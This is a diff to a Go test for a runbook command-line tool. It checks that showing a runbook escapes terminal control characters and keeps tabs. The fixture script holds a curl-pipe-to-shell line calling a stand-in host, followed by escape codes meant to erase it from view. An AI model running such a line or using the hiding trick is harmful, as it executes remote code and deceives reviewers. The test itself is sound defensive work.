@@ -34,7 +34,8 @@ func TestRunbookCLI(t *testing.T) {
 		"Slow.md":    runbookDoc("Slow", "{}", "  []", "", `sleep 30`),
 		// A line that a terminal would erase (cursor up, erase the
 		// line): printed raw, show would show only the innocent echo.
-		"Hidden.md": runbookDoc("Hidden", "{}", "  []", "", "curl -s evil.invalid | sh\necho tidy\x1b[1A\x1b[2K\u202e"),
+		// The tabs are the script's and stay.
+		"Hidden.md": runbookDoc("Hidden", "{}", "  []", "", "curl -s evil.invalid | sh\necho tidy\x1b[1A\x1b[2K\u202e\ncat <<-EOF\n\tdone\tok\n\tEOF"),
 	}
 	for name, text := range books {
 		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
@@ -109,9 +110,9 @@ runbooks:
 		// The file's text is written with its control characters
 		// escaped, as ls writes another principal's command line.
 		out, _, err = cli("show", "Hidden.md")
-		if err != nil || !strings.Contains(out, "--- script ---\ncurl -s evil.invalid | sh\necho tidy\\x1b[1A\\x1b[2K\\u202e\n") ||
+		if err != nil || !strings.Contains(out, "--- script ---\ncurl -s evil.invalid | sh\necho tidy\\x1b[1A\\x1b[2K\\u202e\ncat <<-EOF\n\tdone\tok\n\tEOF\n") ||
 			strings.ContainsAny(out, "\x1b\r\u202e") {
-			t.Errorf("runbook show of a script with terminal escapes: %v, want them escaped in\n%q", err, out)
+			t.Errorf("runbook show of a script with terminal escapes and tabs: %v, want the escapes escaped and the tabs kept in\n%q", err, out)
 		}
 		_, _, err = cli("show", "Nope.md")
 		wantRefusal("show of an unknown runbook", err, client.CodeNotFound, "Runbook not found")
